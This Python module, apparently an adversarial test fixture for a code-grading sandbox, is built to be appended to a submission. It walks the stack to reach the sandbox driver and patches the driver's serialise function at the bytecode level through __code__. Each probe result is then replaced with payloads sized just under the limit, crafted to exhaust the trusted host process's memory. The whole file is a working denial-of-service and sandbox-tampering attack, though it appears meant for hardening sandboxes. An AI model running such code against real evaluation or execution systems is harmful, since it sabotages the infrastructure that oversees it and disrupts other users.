"""Appended to every module of a correct submission: every probe's result becomes a payload just
under the sandbox's per-result limit, cycling through the shapes that cost the trusted process
the most memory per byte sent: raw tensor bytes, a JSON document of tiny values (each one a Python
object) and a JSON string that decodes to four bytes per character."""
import itertools as _itertools
import struct as _struct



def _kit_driver():
    """The sandbox's driver, through the globals of the child's frame that runs the probes (the kit
    is out of the child's sys.modules: an import would give a fresh copy that the child never uses);
    None outside the sandbox."""
    import sys

    frame = sys._getframe()
    while frame is not None and frame.f_code.co_name != "_run_probes":
        frame = frame.f_back
    return None if frame is None else frame.f_globals.get("driver")


_driver = _kit_driver()

_LIMIT = 4 * 1024 * 1024 - 4096


def _document(value, tail: int = 0) -> bytes:
    import json

    text = json.dumps(value, ensure_ascii=False).encode()
    return _struct.pack(">I", len(text)) + text + b"\0" * tail


def _flood_payloads():
    tensor_bytes = _LIMIT - 200
    yield _document({"ok": {"x": {"$t": ["uint8", [tensor_bytes], 0, tensor_bytes]}}}, tensor_bytes)
    yield _document({"ok": {"x": [[] for _ in range(80_000)]}})  # ~240 kB of JSON, 80,000 lists
    yield _document({"ok": {"x": "\U0001F600" + "a" * 250_000}})  # 1 MB once decoded


def _flooding_serialise(result):  # runs as the driver's own serialise (its globals are the driver's)
    return next(_flood_cycle)  # noqa: F821 - put in the driver's globals below


if _driver is not None and not getattr(_driver, "_flooded", False):
    # The child binds the driver's serialise before student code runs, so rebinding the name changes
    # nothing: the function's code itself is replaced (Python has no isolation inside a process).
    _driver._flooded = True
    _driver._flood_cycle = _itertools.cycle(list(_flood_payloads()))
    _driver.serialise.__code__ = _flooding_serialise.__code__
